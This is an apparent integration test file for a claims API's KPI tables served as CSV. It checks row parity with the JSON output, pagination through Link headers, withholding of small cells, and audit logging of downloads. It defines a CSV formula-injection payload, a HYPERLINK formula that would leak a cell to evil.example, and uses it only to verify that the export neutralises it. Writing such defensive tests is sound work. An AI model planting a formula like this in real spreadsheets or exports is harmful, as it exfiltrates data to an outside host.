import 'reflect-metadata';
import { API_ROLES, type ApiRole } from '@claims/contracts';
import { createIsolatedDatabase, testInfrastructure, type IsolatedDatabase } from '@claims/harness';
import type { INestApplication } from '@nestjs/common';
import { randomBytes } from 'node:crypto';
import { Client } from 'pg';
import { startApiUnderTest } from '../__tests__/api-under-test';
import { parseCsv } from '../__tests__/csv-document';
import { rebuildCountersFromClaims, seedFoldedKpis } from '../__tests__/kpi-fixture';
import { KPI_TABLE_ROUTES } from '../__tests__/kpi-table-routes';

const tokens = Object.fromEntries(
  API_ROLES.map((role) => [role, `${role}-${randomBytes(18).toString('hex')}`]),
) as Record<ApiRole, string>;
/** A payer name a billing export could carry: a spreadsheet must show it, never run it. */
const HOSTILE_PAYER = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

/**
 * Every KPI table as CSV (`Accept: text/csv`) over the KPI fixture, with a
 * claim whose payer is a formula: the same rows as the JSON, each text cell
 * neutralised, small cells withheld for an analyst as in the JSON, and each
 * download written to the audit log as an export.
 */
describe('KPI tables as CSV against a real Postgres', () => {
  let database: IsolatedDatabase;
  let app: INestApplication;
  let baseUrl: string;

  const get = async (path: string, role: ApiRole, accept?: string) => {
    const response = await fetch(`${baseUrl}${path}`, {
      headers: { authorization: `Bearer ${tokens[role]}`, ...(accept === undefined ? {} : { accept }) },
    });
    return {
      status: response.status,
      type: response.headers.get('content-type'),
      disposition: response.headers.get('content-disposition'),
      vary: response.headers.get('vary'),
      etag: response.headers.get('etag'),
      requestId: response.headers.get('x-request-id'),
      text: await response.text(),
    };
  };

  beforeAll(async () => {
    database = await createIsolatedDatabase('api_kpi_csv');
    ({ app, baseUrl } = await startApiUnderTest({
      databaseUrl: database.url,
      brokers: testInfrastructure().brokers,
      apiTokens: API_ROLES.map((role) => `${role}=${tokens[role]}`).join(','),
      env: { API_SMALL_CELL_THRESHOLD: '11' },
    }));
    await seedFoldedKpis(database.url);
    const client = new Client({ connectionString: database.url });
    await client.connect();
    try {
      await client.query(
        `INSERT INTO claim_state (claim_id, event_id, event_type, claim_type, payer, occurred_at, service_from_date,
           service_through_date, line_count, payment_amount_cents, allowed_amount_cents, lineage_source,
           lineage_file_id, lineage_record_number, kafka_partition, layout, provider_group, state, billed_amount_cents,
           adjudication_status)
         VALUES ('CSV-1', gen_random_uuid(), 'adjudicated', 'professional', $1, '2024-03-01', '2024-03-01',
                 '2024-03-01', 0, 2500, 3000, 'b.csv', repeat('c', 64), 1, 0, 'billing.claim-export', 'GRP-1', 'VA',
                 4000, 'paid')`,
        [HOSTILE_PAYER],
      );
      await client.query('DELETE FROM kpi_dimension_counter');
      await client.query('DELETE FROM kpi_counter');
      await rebuildCountersFromClaims(client);
    } finally {
      await client.end();
    }
  });

  afterAll(async () => {
    await app?.close();
    await database?.drop();
  });

  it.each(KPI_TABLE_ROUTES)(
    'answers %s as CSV with the rows of its JSON table, every cell a value, as an attachment',
    async (path, field) => {
      const json = await get(path, 'manager');
      expect(json.status).toBe(200);
      expect(json.type).toMatch(/^application\/json/);
      const rows = (JSON.parse(json.text) as Record<string, unknown[]>)[field] ?? [];
      const csv = await get(path, 'manager', 'text/csv');
      expect({ path, status: csv.status, type: csv.type }).toEqual({
        path,
        status: 200,
        type: 'text/csv; charset=utf-8',
      });
      expect(csv.disposition).toMatch(/^attachment; filename="[a-z-]+\.csv"$/);
      expect(csv.vary).toMatch(/Accept/i);
      expect(csv.etag).not.toBe(json.etag);
      const table = parseCsv(csv.text);
      expect({ path, rows: table.length }).toEqual({ path, rows: rows.length === 0 ? 1 : rows.length + 1 });
      // Every cell a value: a list of objects (a queue's age buckets) is columns of its own, not "[object Object]".
      expect({ path, objectCells: csv.text.includes('[object Object]') }).toEqual({ path, objectCells: false });
    },
  );

  it.each([
    ['/v1/kpis/pended-queue/work-queue?limit=7', 'items'],
    ['/v1/kpis/denials/claims?source=billing_export&limit=1', 'items'],
    ['/v1/kpis/payments/claims?limit=2&state=MD', 'items'],
  ])(
    'names the next page of %s as CSV in a Link header (RFC 8288), so a CSV client pages through every row',
    async (path, field) => {
      const everything = await get(path.replace(/limit=\d+/, 'limit=500'), 'manager');
      const claimIds = ((JSON.parse(everything.text) as Record<string, Array<{ claimId: string }>>)[field] ?? []).map(
        (item) => item.claimId,
      );
      const paged: string[] = [];
      let next: string | null = path;
      let pages = 0;
      while (next !== null && pages <= claimIds.length) {
        const response = await fetch(new URL(next, `${baseUrl}${path}`), {
          headers: { authorization: `Bearer ${tokens.manager}`, accept: 'text/csv' },
        });
        expect({ next, status: response.status }).toEqual({ next, status: 200 });
        const [header = [], ...rows] = parseCsv(await response.text());
        paged.push(...rows.map((row) => row[header.indexOf('claimId')] ?? ''));
        const link = response.headers.get('link');
        next = link === null ? null : (/^<([^>]+)>; rel="next"$/.exec(link)?.[1] ?? 'malformed Link');
        pages += 1;
      }
      expect(pages).toBeGreaterThan(1);
      expect(paged).toEqual(claimIds);
    },
  );

  it('writes a formula a value carries as text a spreadsheet shows and never runs', async () => {
    const csv = await get('/v1/kpis/payments?groupBy=payer', 'manager', 'text/csv');
    const table = parseCsv(csv.text);
    expect(table[0]?.slice(0, 2)).toEqual(['value', 'claims']);
    expect(table.map((row) => row[0])).toContain(`'${HOSTILE_PAYER}`);
    expect(csv.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('withholds for an analyst the small cells the JSON withholds: empty cells, named in `suppressed`', async () => {
    const json = JSON.parse((await get('/v1/kpis/payments?groupBy=payer', 'analyst')).text) as {
      rows: Array<{ value: string; claims: number | null; suppressed?: string[] }>;
    };
    const withheld = json.rows.filter((row) => row.claims === null);
    expect(withheld.length).toBeGreaterThan(0);
    const table = parseCsv((await get('/v1/kpis/payments?groupBy=payer', 'analyst', 'text/csv')).text);
    const header = table[0] ?? [];
    for (const row of withheld) {
      const line = table.find((cells) => cells[0] === row.value || cells[0] === `'${row.value}`);
      expect(line?.[header.indexOf('claims')]).toBe('');
      expect(line?.[header.indexOf('suppressed')]).toContain('claims');
    }
  });

  it('answers JSON to a caller that prefers it or names no type, and writes each CSV download to the audit log', async () => {
    expect((await get('/v1/kpis/volume', 'manager', 'application/json, text/csv;q=0.5')).type).toMatch(
      /^application\/json/,
    );
    expect((await get('/v1/kpis/volume', 'manager', '*/*')).type).toMatch(/^application\/json/);
    const download = await get('/v1/kpis/volume', 'analyst', 'text/csv');
    const client = new Client({ connectionString: database.url });
    await client.connect();
    try {
      // The audit row is written once the answer is sent: wait for it briefly.
      let rows: Array<{ route: string; status: number }> = [];
      for (let attempt = 0; attempt < 50 && rows.length === 0; attempt += 1) {
        ({ rows } = await client.query('SELECT route, status FROM audit_event WHERE request_id = $1', [
          download.requestId,
        ]));
        if (rows.length === 0) await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(rows).toEqual([{ route: '/v1/kpis/volume', status: 200 }]);
      const plain = await get('/v1/kpis/volume', 'analyst');
      await new Promise((resolve) => setTimeout(resolve, 300));
      const { rows: none } = await client.query('SELECT 1 FROM audit_event WHERE request_id = $1', [plain.requestId]);
      expect(none).toEqual([]);
    } finally {
      await client.end();
    }
  });
});
